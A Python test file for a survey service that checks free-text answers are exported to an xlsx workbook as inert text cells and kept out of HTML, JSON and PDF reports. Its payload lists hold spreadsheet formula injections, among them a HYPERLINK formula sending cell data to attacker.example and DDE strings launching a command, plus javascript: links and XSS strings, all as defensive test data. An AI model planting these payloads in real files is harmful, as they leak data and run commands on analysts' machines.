"""Stored XSS and formula payloads through the analysts' files (issue 13; SECURITY.md X-06,
F-01..F-03): what respondents typed comes out of the xlsx workbook as plain text cells (no
formula, no hyperlink, the formula-like texts with CSV's leading apostrophe), read back with
openpyxl and from the workbook's XML; the report (its JSON, and its PDF through pdftotext)
is computed from the coded answers alone, so no free text reaches it."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path

import openpyxl
import pytest
from litestar.testing import AsyncTestClient

from survey_service.app import create_app
from tests.conftest import FULL_ANSWERS, SECRET, hidden_fields, seed_wave, settings_for
from tests.web.admin_helpers import add_accounts, quick_argon2, sign_in  # noqa: F401
from tests.web.test_security import P_URL, P_XSS

P_FORMULA = ['=HYPERLINK("https://attacker.example/?d="&A1,"x")', "=cmd|' /C calc'!A0",
             "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "-2+3+cmd|'/c calc'!A1"]
#: Texts a spreadsheet would take as a link if asked to guess.
P_LINKS = ["https://evil.example/x", "mailto:a@evil.example", "ftp://evil.example",
           "javascript:alert(1)", "external:c:\\x.xlsx"]
#: What Excel (and LibreOffice) would run as a formula: EXPORTS.md's leading characters.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")
PAYLOADS = [*P_XSS, *P_URL[:5], *P_FORMULA, *P_LINKS, "Кметът <b>каза</b> & «добре»"]


@pytest.fixture
async def client(db_path: Path, monkeypatch: pytest.MonkeyPatch,
                 quick_argon2: None) -> AsyncIterator[AsyncTestClient]:  # noqa: F811
    monkeypatch.setenv("SURVEY_SECRET_KEY", SECRET)
    settings = settings_for(db_path)
    await seed_wave(settings, organisations=["elena"])
    await add_accounts(settings)
    async with AsyncTestClient(app=create_app(settings)) as client:
        for payload in PAYLOADS:
            page = await client.get("/s/citizen-satisfaction?org=elena")
            fields = {**hidden_fields(page.text), **FULL_ANSWERS, "comments": payload,
                      "_step": "5", "_action": "next"}
            r = await client.post("/s/citizen-satisfaction", data=fields,
                                  follow_redirects=False)
            assert r.status_code == 303, r.text[:300]
        assert (await sign_in(client, "root")).status_code == 303
        yield client


def expected(typed: str) -> str:
    """The cell a typed text becomes: as typed, with an apostrophe before a formula (the
    form trims what respondents type)."""
    text = typed.strip()
    return "'" + text if text.startswith(FORMULA_START) else text


async def test_the_workbook_holds_every_payload_as_a_plain_text_cell(
    client: AsyncTestClient,
) -> None:
    r = await client.get("/admin/exports/cs-baseline/responses.xlsx")
    assert r.status_code == 200, r.text[:300]
    assert r.headers["content-disposition"].startswith("attachment")
    book = openpyxl.load_workbook(io.BytesIO(r.content))  # not data_only: formulas would show
    sheet = book.worksheets[0]
    header = [c.value for c in next(sheet.iter_rows(min_row=1, max_row=1))]
    column = header.index("comments")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells if c.value is not None) == sorted(
        expected(p) for p in PAYLOADS if p.strip())
    for cell in cells:
        if cell.value is not None:
            assert cell.data_type == "s", (cell.value, cell.data_type)  # never "f"
            assert cell.hyperlink is None, cell.value
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None, (ws.title, cell.coordinate)

    with zipfile.ZipFile(io.BytesIO(r.content)) as xlsx:
        names = xlsx.namelist()
        xml = {n: xlsx.read(n).decode() for n in names if n.endswith((".xml", ".rels"))}
    sheets = [n for n in names if n.startswith("xl/worksheets/sheet")]
    assert sheets
    for name in sheets:
        assert not re.search(r"<f[ >]", xml[name]), name  # no formula anywhere
        assert "<hyperlink" not in xml[name], name
    assert not any("TargetMode=\"External\"" in text for text in xml.values())
    everything = "".join(xml.values())
    assert "<script>" not in everything and "<img" not in everything  # escaped as XML text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in everything


@pytest.mark.skipif(shutil.which("pdftotext") is None or not Path("/usr/bin/chromium").exists(),
                    reason="needs poppler-utils (pdftotext) and Debian's Chromium")
async def test_the_report_and_its_pdf_hold_no_free_text(
    client: AsyncTestClient, tmp_path: Path
) -> None:
    base = "/admin/reports/citizen-satisfaction"
    html = await client.get(f"{base}?wave=cs-baseline&lang=en")
    assert html.status_code == 200 and "<table" in html.text, html.text[:500]
    report = await client.get(f"{base}/report.json?wave=cs-baseline")
    assert report.status_code == 200
    pdf = await client.get(f"{base}/report.pdf?wave=cs-baseline&lang=en")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF"), pdf.text[:300]
    (tmp_path / "r.pdf").write_bytes(pdf.content)
    text = subprocess.run(["pdftotext", str(tmp_path / "r.pdf"), "-"], capture_output=True,
                          text=True, check=True).stdout
    assert "Citizen" in text or "citizen" in text, text[:500]  # the test reads the PDF
    for payload in PAYLOADS:
        words = payload.strip()
        for place, body in (("page", html.text), ("json", report.text), ("pdf", text)):
            if len(words) > 5:
                assert words not in body, (place, payload)
        for marker in ("alert(1)", "HYPERLINK", "attacker.example", "evil.example", "каза"):
            assert marker not in text and marker not in report.text, marker
